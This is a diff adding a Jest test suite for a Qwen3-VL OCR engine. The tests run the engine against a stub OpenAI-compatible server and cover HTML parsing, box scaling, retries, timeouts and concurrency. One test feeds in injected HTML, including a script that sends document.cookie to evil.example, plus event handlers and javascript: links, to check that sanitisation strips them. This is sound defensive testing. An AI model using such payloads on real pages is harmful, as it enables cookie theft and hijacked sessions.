@@ -1,0 +1,353 @@
+import { PageFailedError, type PageImage } from '../../src/ocr/engine';
+import { QwenVllmEngine, type QwenVllmEngineOptions } from '../../src/ocr/qwen-vllm-engine';
+import type { OrientationDetector } from '../../src/ocr/qwen-orientation';
+import { assembleDocument } from '../../src/pipeline/assemble';
+import { OpenAiStubServer, blankPage, textPage, type ScriptedReply } from './support/openai-stub-server';
+
+const MODEL = 'Qwen/Qwen3-VL-8B-Instruct';
+const GOOD = [
+  '<html><body>',
+  '<h1 data-bbox="100 50 900 100">Invoice 4711</h1>',
+  '<div class="text" data-bbox="100 150 500 300">Dear customer, please pay.</div>',
+  '<div class="table" data-bbox="-2 400 1003 600"><table><tr><td>Item</td><td>Price</td></tr></table></div>',
+  '</body></html>',
+].join('\n');
+const LOOP = `<html><body><div class="table" data-bbox="10 10 990 990"><table>${'<tr><td>Total</td><td>12.00</td></tr>'.repeat(120)}`;
+
+describe('QwenVllmEngine against an OpenAI-compatible server replaying Qwen3-VL answers', () => {
+  let server: OpenAiStubServer;
+  let page: PageImage;
+  const engines: QwenVllmEngine[] = [];
+  const engine = (options: Partial<QwenVllmEngineOptions> = {}): QwenVllmEngine => {
+    const created = QwenVllmEngine.create({ baseUrl: server.baseUrl, model: MODEL, orientation: 'none', retryDelayMs: 0, maxTokens: 2048, ...options });
+    engines.push(created);
+    return created;
+  };
+  const replies = (...script: ScriptedReply[]): void => {
+    server.script = (_request, i) => script[Math.min(i, script.length - 1)]!;
+  };
+
+  beforeAll(async () => {
+    server = await OpenAiStubServer.start();
+    page = await textPage(400, 600);
+  });
+  afterEach(async () => {
+    await Promise.all(engines.splice(0).map((e) => e.close()));
+    await until(() => server.inFlight === 0);
+    server.reset();
+  });
+  afterAll(() => server.close());
+
+  it('sends one user message with the page as a PNG data URI, then `qwenvl html`, with a token cap, temperature 0 and log-probabilities', async () => {
+    // Prepare
+    replies({ content: GOOD });
+
+    // Act
+    await engine().recognize({ ...(await textPage(400, 600, { format: 'rgba' })), page: 3 });
+
+    // Assess
+    const [request] = server.requests;
+    expect(request!.messages).toHaveLength(1);
+    expect(request!.messages[0]!.role).toBe('user');
+    expect(request!.messages[0]!.content.map((c) => c.type)).toEqual(['image_url', 'text']);
+    expect(request!.messages[0]!.content[0]!.image_url!.url).toMatch(/^data:image\/png;base64,/);
+    const prompt = await server.promptOf(0);
+    expect(prompt.text).toEqual(['qwenvl html']);
+    expect(prompt.image).toEqual({ width: 400, height: 600, hasAlpha: false });
+    expect(request).toMatchObject({ model: MODEL, max_tokens: 2048, temperature: 0, logprobs: true });
+    expect(request).not.toHaveProperty('mm_processor_kwargs');
+  });
+
+  it('turns good HTML with 0–1000 boxes into blocks in page pixels, clamped to the page, with kinds and confidences', async () => {
+    // Prepare
+    replies({ content: GOOD, logprob: Math.log(0.9) });
+
+    // Act
+    const result = await engine().recognize({ ...page, page: 2 });
+
+    // Assess
+    expect(result).toMatchObject({ page: 2, width: 400, height: 600, engine: `vllm/${MODEL}`, rotation: 0 });
+    expect(result.blocks.map((b) => [b.kind, b.bbox])).toEqual([
+      ['heading', [40, 30, 360, 60]],
+      ['text', [40, 90, 200, 180]],
+      ['table', [0, 240, 400, 360]],
+    ]);
+    expect(result.confidence).toBeCloseTo(0.9, 6);
+    expect(result.blocks.every((b) => Math.abs(b.confidence! - 0.9) < 1e-6)).toBe(true);
+    const assembled = assembleDocument([result]);
+    expect(assembled.text).toBe('Invoice 4711\nDear customer, please pay.\nItem\tPrice');
+    expect(assembled.html).toContain('data-bbox="40 90 200 180"');
+    expect(assembled.html).not.toMatch(/data-bbox="(100 50|-2)/); // the model's own units never leak
+  });
+
+  it('uses HTML without any boxes, each block with a null box', async () => {
+    // Prepare
+    replies({ content: '<html><body><h2>Minutes</h2><p>The meeting opened at nine.</p></body></html>' });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(result.blocks.map((b) => [b.kind, b.bbox])).toEqual([
+      ['heading', null],
+      ['text', null],
+    ]);
+    expect(assembleDocument([result]).text).toBe('Minutes\nThe meeting opened at nine.');
+  });
+
+  it('uses HTML inside a code fence with prose around it, and drops the prose', async () => {
+    // Prepare
+    const content = `Sure! Here is the document as HTML:\n\n\`\`\`html\n${GOOD}\n\`\`\`\n\nLet me know if you need anything else.`;
+    replies({ content });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    const text = assembleDocument([result]).text;
+    expect(result.blocks).toHaveLength(3);
+    expect(text).toContain('Dear customer, please pay.');
+    expect(text).not.toMatch(/Sure|Let me know/);
+  });
+
+  it('retries a repetition loop with a higher temperature and keeps the answer that ends', async () => {
+    // Prepare
+    replies({ content: LOOP, finishReason: 'length' }, { content: GOOD });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(server.requests.map((r) => r.temperature)).toEqual([0, 0.2]);
+    expect(result.blocks).toHaveLength(3);
+  });
+
+  it('fails a page that loops on every attempt with `repetition` after the whole ladder', async () => {
+    // Prepare: a loop that even ends with `stop` is a loop.
+    replies({ content: `${LOOP}</table></div></body></html>` });
+
+    // Act
+    const failure = engine({ temperatures: [0, 0.3, 0.6] }).recognize(page);
+
+    // Assess
+    await expect(failure).rejects.toEqual(new PageFailedError(`vllm/${MODEL}`, 'repetition', 3));
+    expect(server.requests.map((r) => r.temperature)).toEqual([0, 0.3, 0.6]);
+  });
+
+  it('treats a length cut-off as a failed attempt and fails the page with `length` when it recurs', async () => {
+    // Prepare
+    replies({ content: '<html><body><div class="text" data-bbox="1 1 999 100">A long page that did not', finishReason: 'length' });
+
+    // Act
+    const failure = engine({ temperatures: [0, 0.5] }).recognize(page);
+
+    // Assess
+    await expect(failure).rejects.toMatchObject({ name: 'PageFailedError', reason: 'length', attempts: 2 });
+  });
+
+  it('retries malformed HTML that yields no block, and uses the next good answer', async () => {
+    // Prepare
+    replies({ content: '<html><body><div class="text" data-bbox="10 10 900 80"</body></html>' }, { content: GOOD });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(server.requests).toHaveLength(2);
+    expect(result.blocks).toHaveLength(3);
+  });
+
+  it('fails a page whose every answer is malformed, or prose with no markup, with `malformed`', async () => {
+    // Prepare
+    replies({ content: '<div class="table"><table><tr><td>' }, { content: 'I am sorry, I cannot read this image.' });
+
+    // Act
+    const failure = engine({ temperatures: [0, 0.5] }).recognize(page);
+
+    // Assess
+    await expect(failure).rejects.toMatchObject({ reason: 'malformed', attempts: 2 });
+  });
+
+  it('keeps an answer with injected script, handlers, styles and remote URLs inert in the assembled document', async () => {
+    // Prepare
+    const content = [
+      '<html><head><script>steal()</script><style>body{display:none}</style></head><body>',
+      '<script>fetch("https://evil.example/x?c="+document.cookie)</script>',
+      '<div class="text" data-bbox="100 100 900 200" onclick="steal()" style="color:red">Pay <a href="javascript:steal()">here</a>',
+      '<img src="https://evil.example/pixel.png" onerror="steal()"><iframe src="https://evil.example"></iframe><script>steal()</script></div>',
+      '<p onmouseover="steal()">Thanks <svg onload="steal()"><use href="https://evil.example/#x"/></svg></p>',
+      '</body></html>',
+    ].join('');
+    replies({ content });
+
+    // Act
+    const result = await engine().recognize(page);
+    const assembled = assembleDocument([result]);
+
+    // Assess
+    const body = assembled.html.slice(assembled.html.indexOf('<body>'));
+    expect(body).not.toMatch(/<script|<style|<iframe|<svg|<img|<a[\s>]|\son\w+=|style=|src=|href=|javascript:|evil\.example|steal/i);
+    expect(assembled.text).toBe('Pay here\nThanks');
+    expect(JSON.stringify(assembled.json)).not.toMatch(/script|steal|evil/i);
+  });
+
+  it.each([
+    ['an empty answer', ''],
+    ['an empty document', '<html><body></body></html>'],
+    ['an empty document in a fence', '```html\n<html>\n<body>\n</body>\n</html>\n```'],
+  ])('reads %s as a page without blocks and without confidence', async (_name, content) => {
+    // Prepare
+    replies({ content });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(result).toMatchObject({ blocks: [], confidence: null });
+    expect(server.requests).toHaveLength(1);
+  });
+
+  it('does not send a blank page to the model at all', async () => {
+    // Prepare
+    replies({ content: '<html><body><p>Hallucinated text</p></body></html>' });
+
+    // Act
+    const result = await engine().recognize({ ...(await blankPage()), page: 4 });
+
+    // Assess
+    expect(result).toMatchObject({ page: 4, blocks: [], confidence: null, rotation: 0 });
+    expect(server.requests).toHaveLength(0);
+  });
+
+  it('retries after an HTTP 5xx and succeeds', async () => {
+    // Prepare
+    replies({ status: 503 }, { content: GOOD });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(server.requests).toHaveLength(2);
+    expect(result.blocks).toHaveLength(3);
+  });
+
+  it('fails a page the server refuses (4xx) at once, without retrying', async () => {
+    // Prepare
+    replies({ status: 400 });
+
+    // Act
+    const failure = engine().recognize(page);
+
+    // Assess
+    await expect(failure).rejects.toMatchObject({ name: 'PageFailedError', reason: 'server_error', attempts: 1 });
+    expect(server.requests).toHaveLength(1);
+  });
+
+  it('treats a server answer that is not a chat completion as a failed attempt', async () => {
+    // Prepare
+    replies({ rawBody: JSON.stringify({ choices: 'nope' }) }, { rawBody: '<html>proxy error' }, { content: GOOD });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(server.requests).toHaveLength(3);
+    expect(result.blocks).toHaveLength(3);
+  });
+
+  it('gives up on a request that takes longer than the timeout, and fails the page with `timeout`', async () => {
+    // Prepare
+    replies({ hang: true });
+
+    // Act
+    const failure = engine({ requestTimeoutMs: 100, temperatures: [0, 0.2] }).recognize(page);
+
+    // Assess
+    await expect(failure).rejects.toMatchObject({ reason: 'timeout', attempts: 2 });
+  });
+
+  it('fails with `server_error` when nothing listens', async () => {
+    // Prepare
+    const nobody = QwenVllmEngine.create({ baseUrl: 'http://127.0.0.1:9/v1', model: MODEL, orientation: 'none', retryDelayMs: 0, temperatures: [0] });
+    engines.push(nobody);
+
+    // Act
+    const failure = nobody.recognize(page);
+
+    // Assess
+    await expect(failure).rejects.toMatchObject({ reason: 'server_error', attempts: 1 });
+  });
+
+  it('cancels the request in flight when the caller aborts, and rejects with the abort reason', async () => {
+    // Prepare
+    replies({ hang: true });
+    const controller = new AbortController();
+    const reason = new Error('shutting down');
+    const result = engine().recognize(page, { signal: controller.signal });
+    await until(() => server.inFlight === 1);
+
+    // Act
+    controller.abort(reason);
+
+    // Assess
+    await expect(result).rejects.toBe(reason);
+    await until(() => server.inFlight === 0);
+    expect(server.abandoned).toBe(1);
+    expect(server.requests).toHaveLength(1);
+  });
+
+  it('turns a page the detector finds rotated before sending it, and reports boxes in the turned pixels', async () => {
+    // Prepare
+    const detector: OrientationDetector = { detect: async () => 90, close: async () => undefined };
+    replies({ content: '<html><body><div class="text" data-bbox="500 500 1000 1000">Sideways</div></body></html>' });
+
+    // Act
+    const result = await engine({ orientation: detector }).recognize(page);
+
+    // Assess
+    expect((await server.promptOf(0)).image).toMatchObject({ width: 600, height: 400 });
+    expect(result).toMatchObject({ width: 600, height: 400, rotation: 90 });
+    expect(result.blocks[0]!.bbox).toEqual([300, 200, 600, 400]);
+  });
+
+  it('keeps as many requests in flight as its concurrency, and no more', async () => {
+    // Prepare
+    replies({ content: GOOD, latencyMs: 100 });
+    const e = engine({ concurrency: 4 });
+
+    // Act
+    const results = await Promise.all(Array.from({ length: 10 }, (_, i) => e.recognize({ ...page, page: i + 1 })));
+
+    // Assess
+    expect(results.map((r) => r.page)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
+    expect(server.peakInFlight).toBe(4);
+  });
+
+  it('sends the pixel limit with each request only when one is configured', async () => {
+    // Prepare
+    replies({ content: GOOD });
+
+    // Act
+    await engine({ maxPixels: 2_500_000 }).recognize(page);
+
+    // Assess
+    expect(server.requests[0]).toMatchObject({ mm_processor_kwargs: { max_pixels: 2_500_000 } });
+  });
+
+  it('has no confidence to give when the server sends no log-probabilities', async () => {
+    // Prepare
+    replies({ content: GOOD, noLogprobs: true });
+
+    // Act
+    const result = await engine().recognize(page);
+
+    // Assess
+    expect(result.confidence).toBeNull();
+    expect(result.blocks.map((b) => b.confidence)).toEqual([null, null, null]);
+  });
+});
+
+async function until(condition: () => boolean): Promise<void> {
+  for (let i = 0; i < 500 && !condition(); i += 1) await new Promise((r) => setTimeout(r, 10));
+  if (!condition()) throw new Error('condition not met');
+}
